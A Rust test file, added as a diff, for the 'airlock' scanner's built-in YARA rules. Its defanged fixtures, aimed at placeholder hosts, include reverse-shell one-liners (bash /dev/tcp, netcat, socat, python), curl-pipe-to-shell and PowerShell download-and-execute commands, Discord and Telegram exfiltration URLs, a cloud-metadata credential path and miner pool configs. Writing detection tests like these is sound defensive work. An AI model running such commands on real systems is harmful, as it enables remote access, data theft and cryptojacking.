@@ -1,0 +1,497 @@
+//! Byte-pattern rules (YARA-X): every built-in rule fires on a defanged fixture, also inside
+//! archive members (with the member chain), `--rules DIR` adds a user's rules, a rule file that
+//! does not compile is a usage error, and benign look-alikes stay quiet.
+//!
+//! Fixtures are inert: commands only `echo` (the patterns sit in quoted strings), hosts are under
+//! `example.invalid`. Each pattern is split over source lines (`lines`), so that this file does
+//! not match the rules it tests.
+
+use std::collections::BTreeSet;
+use std::io::Write;
+use std::path::Path;
+use std::process::{Command, Output};
+use std::sync::{Arc, OnceLock};
+
+use airlock::analyse::BudgetLimits;
+use airlock::finding::Span;
+use airlock::scan::{scan_file_with, FileReport};
+use airlock::yara::YaraRules;
+use airlock::Severity;
+
+fn builtin() -> Arc<YaraRules> {
+    static RULES: OnceLock<Arc<YaraRules>> = OnceLock::new();
+    RULES
+        .get_or_init(|| Arc::new(YaraRules::builtin().expect("built-in rules compile")))
+        .clone()
+}
+
+/// Join pieces written on separate source lines into one fixture.
+fn lines(parts: &[&str]) -> Vec<u8> {
+    parts.concat().into_bytes()
+}
+
+fn scan_bytes(dir: &Path, name: &str, data: &[u8]) -> FileReport {
+    let p = dir.join(name);
+    std::fs::write(&p, data).expect("write fixture");
+    scan_file_with(&p, BudgetLimits::default(), Some(builtin()))
+}
+
+/// The YARA rule ids (`meta: id`) named by the `yara-match` findings of a report.
+fn yara_ids(r: &FileReport) -> Vec<String> {
+    r.findings
+        .iter()
+        .filter(|f| f.rule.id == "yara-match")
+        .map(|f| {
+            f.message
+                .strip_prefix("YARA rule ")
+                .and_then(|m| m.split([' ', ':']).next())
+                .unwrap_or_default()
+                .to_string()
+        })
+        .collect()
+}
+
+/// (expected YARA rule id, file name, content) for every built-in rule.
+fn positives() -> Vec<(&'static str, &'static str, Vec<u8>)> {
+    vec![
+        (
+            "yara-miner-stratum",
+            "miner.json",
+            lines(&[
+                "{\"url\": \"stratum",
+                "+tcp://pool.example.invalid:3333\"}\n",
+            ]),
+        ),
+        (
+            "yara-miner-xmrig",
+            "config.json",
+            lines(&[
+                "{\"autosave\": true, \"donate",
+                "-level\": 1,\n \"pools\": [{\"url\": \"pool.example.invalid:443\"}]}\n",
+            ]),
+        ),
+        (
+            "yara-miner-pool-host",
+            "run.sh",
+            lines(&["#!/bin/sh\necho gulf.monero", "ocean.stream\n"]),
+        ),
+        (
+            "yara-reverse-shell-dev-tcp",
+            "run.sh",
+            lines(&[
+                "#!/bin/sh\necho 'bash -i >& /dev/",
+                "tcp/x.example.invalid/4444 0>&1'\n",
+            ]),
+        ),
+        (
+            "yara-reverse-shell-netcat",
+            "run.sh",
+            lines(&["#!/bin/sh\necho 'nc -e /bin/", "sh x.example.invalid 4444'\n"]),
+        ),
+        (
+            "yara-reverse-shell-socat",
+            "run.sh",
+            lines(&[
+                "#!/bin/sh\necho 'socat tcp:x.example.invalid:4444 ",
+                "exec:sh,pty,stderr'\n",
+            ]),
+        ),
+        (
+            "yara-reverse-shell-python",
+            "notes.txt",
+            lines(&[
+                "echo \"s.connect(('x.example.invalid',4444));os.dup2(s.",
+                "fileno(),0);pty.spawn('/bin/sh')\"\n",
+            ]),
+        ),
+        (
+            "yara-exfil-discord-webhook",
+            "cfg.ini",
+            lines(&[
+                "hook = https://discord.com.example.invalid/api/web",
+                "hooks/123456789012345678/abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-ab\n",
+            ]),
+        ),
+        (
+            "yara-exfil-telegram-bot",
+            "cfg.ini",
+            lines(&[
+                "url = https://api.telegram.org.example.invalid/bot",
+                "123456789:AAbcdefghijklmnopqrstuvwxyz0123456789/sendDocument\n",
+            ]),
+        ),
+        (
+            "yara-powershell-encoded",
+            "run.bat",
+            lines(&[
+                "echo powershell -NoP -W Hidden -Enc ",
+                "ZQBjAGgAbwAgAGEAaQByAGwAbwBjAGsALQB0AGUAcwB0AA==\n",
+            ]),
+        ),
+        (
+            "yara-powershell-decode-exec",
+            "run.ps1",
+            lines(&[
+                "Write-Output 'IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64",
+                "String(\"ZWNobw==\")))'\n",
+            ]),
+        ),
+        (
+            "yara-powershell-download-exec",
+            "run.ps1",
+            lines(&[
+                "Write-Output 'irm https://x.example.invalid/a.ps1 ",
+                "| iex'\n",
+            ]),
+        ),
+        (
+            "yara-pipe-to-shell",
+            "setup.sh",
+            lines(&["#!/bin/sh\ncurl -s https://x.example.invalid/a.sh ", "| sh\n"]),
+        ),
+        (
+            "yara-cloud-metadata-credentials",
+            "notes.txt",
+            lines(&[
+                "echo http://169.254.169.254/latest/meta-data/iam/security-",
+                "credentials/\n",
+            ]),
+        ),
+    ]
+}
+
+#[test]
+fn builtin_rules_compile_and_carry_their_meta() {
+    let rules = builtin();
+    let metas = rules.descriptions();
+    assert!(metas.len() >= 10, "{} rules", metas.len());
+    let mut ids = BTreeSet::new();
+    for m in &metas {
+        assert!(ids.insert(m.id.clone()), "duplicate id {}", m.id);
+        assert!(
+            m.id.starts_with("yara-")
+                && m.id
+                    .bytes()
+                    .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-'),
+            "{}: id not kebab-case yara-*",
+            m.identifier
+        );
+        assert!(
+            m.severity.is_some(),
+            "{}: severity {:?}",
+            m.id,
+            m.severity_raw
+        );
+        assert!(
+            m.description.as_deref().is_some_and(|d| !d.is_empty()),
+            "{}: no description",
+            m.id
+        );
+    }
+    // The rule page lists every built-in id.
+    let doc = airlock::rules::by_id("yara-match")
+        .and_then(|r| r.doc())
+        .expect("yara-match page");
+    for id in &ids {
+        assert!(
+            doc.contains(&format!("`{id}`")),
+            "{id} not in yara-match.md"
+        );
+    }
+}
+
+#[test]
+fn every_builtin_rule_fires_on_its_fixture() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let mut covered = BTreeSet::new();
+    for (i, (id, name, data)) in positives().into_iter().enumerate() {
+        let sub = dir.path().join(i.to_string());
+        std::fs::create_dir(&sub).expect("mkdir");
+        let r = scan_bytes(&sub, name, &data);
+        let got = yara_ids(&r);
+        assert!(got.iter().any(|g| g == id), "{id}: got {got:?}");
+        let f = r
+            .findings
+            .iter()
+            .find(|f| f.rule.id == "yara-match" && f.message.contains(id))
+            .expect("finding");
+        let want = builtin()
+            .descriptions()
+            .into_iter()
+            .find(|m| m.id == id)
+            .and_then(|m| m.severity)
+            .expect("severity");
+        assert_eq!(f.severity, want, "{id}: severity from meta");
+        assert!(
+            matches!(f.location.span, Some(Span::Offset { .. })),
+            "{id}: {:?}",
+            f.location
+        );
+        assert!(!f.evidence.is_empty() && !f.evidence.contains('\n'));
+        covered.insert(id.to_string());
+    }
+    for m in builtin().descriptions() {
+        assert!(covered.contains(&m.id), "{} has no fixture", m.id);
+    }
+}
+
+#[test]
+fn evidence_is_the_matched_bytes_escaped_and_the_span_its_offset() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let data = lines(&[
+        "#!/bin/sh\n\x1b[2J\ncurl -s https://x.example.invalid/a.sh ",
+        "| sh\n",
+    ]);
+    let r = scan_bytes(dir.path(), "setup.sh", &data);
+    let f = r
+        .findings
+        .iter()
+        .find(|f| f.rule.id == "yara-match")
+        .expect("finding");
+    assert_eq!(f.severity, Severity::Low);
+    assert_eq!(f.location.span, Some(Span::Offset { offset: 15 }));
+    assert_eq!(f.evidence, "curl -s https://x.example.invalid/a.sh | sh");
+    assert!(f.message.contains("yara-pipe-to-shell"), "{}", f.message);
+}
+
+/// A wheel (zip, deflated) with `members`.
+fn wheel(members: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut z = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let opts = zip::write::SimpleFileOptions::default()
+        .compression_method(zip::CompressionMethod::Deflated);
+    for (name, data) in members {
+        z.start_file(*name, opts).expect("zip");
+        z.write_all(data).expect("zip");
+    }
+    z.finish().expect("zip").into_inner()
+}
+
+#[test]
+fn fires_inside_archive_members_with_the_member_chain() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let script = lines(&[
+        "#!/bin/sh\necho 'bash -i >& /dev/",
+        "tcp/x.example.invalid/4444 0>&1'\n",
+    ]);
+    let whl = wheel(&[
+        ("demo/__init__.py", b"x = 1\n"),
+        ("demo/tools/run.sh", &script),
+        (
+            "demo-1.0.dist-info/WHEEL",
+            b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+        ),
+    ]);
+    let r = scan_bytes(dir.path(), "demo-1.0-py3-none-any.whl", &whl);
+    let f = r
+        .findings
+        .iter()
+        .find(|f| f.rule.id == "yara-match")
+        .unwrap_or_else(|| panic!("no yara-match: {:?}", r.findings));
+    assert_eq!(f.severity, Severity::Critical);
+    assert_eq!(f.location.members, vec!["demo/tools/run.sh".to_string()]);
+    assert_eq!(f.location.span, Some(Span::Offset { offset: 16 }));
+    // The container itself is not matched: one finding, at the member.
+    assert_eq!(yara_ids(&r).len(), 1, "{:?}", r.findings);
+
+    // A zip inside a tar.gz: the chain names every level.
+    let inner = wheel(&[("payload/run.sh", &script)]);
+    let mut tar = tar::Builder::new(Vec::new());
+    let mut h = tar::Header::new_gnu();
+    h.set_size(inner.len() as u64);
+    h.set_mode(0o644);
+    h.set_cksum();
+    tar.append_data(&mut h, "pkg-1.0/data/bundle.zip", &inner[..])
+        .expect("tar");
+    let tar = tar.into_inner().expect("tar");
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    gz.write_all(&tar).expect("gzip");
+    let r = scan_bytes(dir.path(), "pkg-1.0.tar.gz", &gz.finish().expect("gzip"));
+    let f = r
+        .findings
+        .iter()
+        .find(|f| f.rule.id == "yara-match")
+        .unwrap_or_else(|| panic!("no yara-match: {:?}", r.findings));
+    assert_eq!(
+        f.location.members.last().map(String::as_str),
+        Some("payload/run.sh"),
+        "{}",
+        f.location
+    );
+    assert!(
+        f.location
+            .members
+            .iter()
+            .any(|m| m == "pkg-1.0/data/bundle.zip"),
+        "{}",
+        f.location
+    );
+}
+
+#[test]
+fn fires_on_strings_inside_a_pickle() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    // An argument the pickle rules grade as an unknown call; the pattern names what it is.
+    let arg = lines(&["echo 'nc -e /bin/", "sh x.example.invalid 4444'"]);
+    let mut p = b"\x80\x02cmypkg.util\nrun_thing\nX".to_vec();
+    p.extend_from_slice(&(arg.len() as u32).to_le_bytes());
+    p.extend_from_slice(&arg);
+    p.extend_from_slice(b"\x85R.");
+    let r = scan_bytes(dir.path(), "model.pkl", &p);
+    assert!(
+        yara_ids(&r)
+            .iter()
+            .any(|i| i == "yara-reverse-shell-netcat"),
+        "{:?}",
+        r.findings
+    );
+}
+
+#[test]
+fn weights_and_containers_are_not_matched() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    // A safetensors file whose tensor bytes happen to spell a pattern: weights are not matched.
+    let mut h = br#"{"w":{"dtype":"U8","shape":[64],"data_offsets":[0,64]}}"#.to_vec();
+    while h.len() % 8 != 0 {
+        h.push(b' ');
+    }
+    let mut st = (h.len() as u64).to_le_bytes().to_vec();
+    st.extend_from_slice(&h);
+    let mut body = lines(&["stratum", "+tcp://pool.example.invalid:3333"]);
+    body.resize(64, b' ');
+    st.extend_from_slice(&body);
+    let r = scan_bytes(dir.path(), "w.safetensors", &st);
+    assert!(yara_ids(&r).is_empty(), "{:?}", r.findings);
+}
+
+#[test]
+fn benign_look_alikes_do_not_fire() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let quiet: Vec<(&str, Vec<u8>)> = vec![
+        ("a.sh", b"#!/bin/sh\ncurl -o model.bin https://x.example.invalid/model.bin\nsha256sum model.bin | tee sum.txt\n".to_vec()),
+        ("b.sh", b"#!/bin/bash\n# health check\nexec 3<>/dev/tcp/localhost/8080\necho ok >&3\n".to_vec()),
+        ("c.txt", b"The stratum of the model; tcp:// is a scheme.\n".to_vec()),
+        ("d.md", b"POST to https://discord.com/api/webhooks/{webhook.id}/{webhook.token}\n".to_vec()),
+        ("e.md", b"Set the bot token from https://api.telegram.org/bot<token>/getMe\n".to_vec()),
+        ("f.ps1", b"powershell -ExecutionPolicy Bypass -File install.ps1\n$b = [Convert]::FromBase64String($s)\n".to_vec()),
+        ("g.sh", b"nc -l 8080 > /dev/null\nsocat TCP-LISTEN:8080,fork TCP:localhost:80\n".to_vec()),
+        ("h.py", b"import os\nos.dup2(devnull.fileno(), 1)\n".to_vec()),
+        ("i.json", b"{\"pools\": [\"a\", \"b\"], \"level\": 3}\n".to_vec()),
+        ("j.txt", b"169.254.169.254 is link-local; never route it.\n".to_vec()),
+        ("k.txt", b"Contact: miners@example.invalid, 2 miners.\n".to_vec()),
+    ];
+    for (name, data) in quiet {
+        let r = scan_bytes(dir.path(), name, &data);
+        assert!(yara_ids(&r).is_empty(), "{name}: {:?}", r.findings);
+    }
+    // Installers documented in a README are matched, but only at low.
+    let readme = lines(&[
+        "Install: curl -LsSf https://x.example.invalid/install.sh ",
+        "| sh\n",
+    ]);
+    let r = scan_bytes(dir.path(), "README.md", &readme);
+    assert!(r.findings.iter().all(|f| f.severity < Severity::Medium));
+}
+
+fn airlock(args: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_airlock"))
+        .args(args)
+        .output()
+        .expect("airlock runs")
+}
+
+#[test]
+fn user_rules_from_a_folder() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let rules = dir.path().join("rules");
+    std::fs::create_dir(&rules).expect("mkdir");
+    std::fs::write(
+        rules.join("team.yar"),
+        "rule team_token\n{\n    meta:\n        id = \"team-token\"\n        severity = \"high\"\n        description = \"our deployment token\"\n    strings:\n        $t = /tok_live_[A-Za-z0-9]{8}/\n    condition:\n        $t\n}\n\
+         rule no_severity { strings: $a = \"airlock-canary\" condition: $a }\n\
+         rule odd_severity { meta: severity = \"urgent\" strings: $a = \"airlock-odd\" condition: $a }\n",
+    )
+    .expect("write");
+    // Ignored: not a rule file.
+    std::fs::write(rules.join("README.md"), "not yara {").expect("write");
+    let target = dir.path().join("target");
+    std::fs::create_dir(&target).expect("mkdir");
+    std::fs::write(
+        target.join("deploy.cfg"),
+        "token = tok_live_AbCd1234\nairlock-canary\nairlock-odd\n",
+    )
+    .expect("write");
+    let rules_arg = rules.to_string_lossy().into_owned();
+    let target_arg = target.to_string_lossy().into_owned();
+    let out = airlock(&[
+        "scan",
+        "--format",
+        "json",
+        "--rules",
+        &rules_arg,
+        &target_arg,
+    ]);
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
+    let findings = v["files"][0]["findings"].as_array().expect("findings");
+    let by = |needle: &str| {
+        findings
+            .iter()
+            .find(|f| f["message"].as_str().is_some_and(|m| m.contains(needle)))
+            .unwrap_or_else(|| panic!("{needle}: {findings:?}"))
+            .clone()
+    };
+    let f = by("team-token");
+    assert_eq!(f["rule"], "yara-match");
+    assert_eq!(f["severity"], "high");
+    assert_eq!(f["evidence"], "tok_live_AbCd1234");
+    assert_eq!(by("no_severity")["severity"], "medium");
+    let odd = by("odd_severity");
+    assert_eq!(odd["severity"], "medium");
+    assert!(odd["message"]
+        .as_str()
+        .is_some_and(|m| m.contains("\"urgent\" unknown")));
+    // Without --rules only the built-in rules run.
+    let out = airlock(&["scan", "--format", "json", &target_arg]);
+    assert_eq!(out.status.code(), Some(0));
+}
+
+#[test]
+fn a_rule_file_that_does_not_compile_is_a_usage_error() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let rules = dir.path().join("rules");
+    std::fs::create_dir(&rules).expect("mkdir");
+    std::fs::write(
+        rules.join("ok.yar"),
+        "rule ok { strings: $a = \"x\" condition: $a }\n",
+    )
+    .expect("write");
+    std::fs::write(
+        rules.join("broken.yara"),
+        "rule broken { strings: $a = \"x\" condition: $b }\n",
+    )
+    .expect("write");
+    let target = dir.path().join("a.txt");
+    std::fs::write(&target, "hello\n").expect("write");
+    let rules_arg = rules.to_string_lossy().into_owned();
+    let target_arg = target.to_string_lossy().into_owned();
+    let out = airlock(&["scan", "--rules", &rules_arg, &target_arg]);
+    assert_eq!(out.status.code(), Some(2));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("broken.yara"), "{err}");
+    assert!(err.contains("$b"), "{err}");
+    assert!(out.stdout.is_empty());
+    // A folder without rule files, and a missing folder, are usage errors too.
+    let empty = dir.path().join("empty");
+    std::fs::create_dir(&empty).expect("mkdir");
+    for bad in [empty, dir.path().join("missing")] {
+        let bad_arg = bad.to_string_lossy().into_owned();
+        let out = airlock(&["scan", "--rules", &bad_arg, &target_arg]);
+        assert_eq!(out.status.code(), Some(2), "{bad_arg}");
+        assert!(String::from_utf8_lossy(&out.stderr).contains(&bad_arg));
+    }
+}
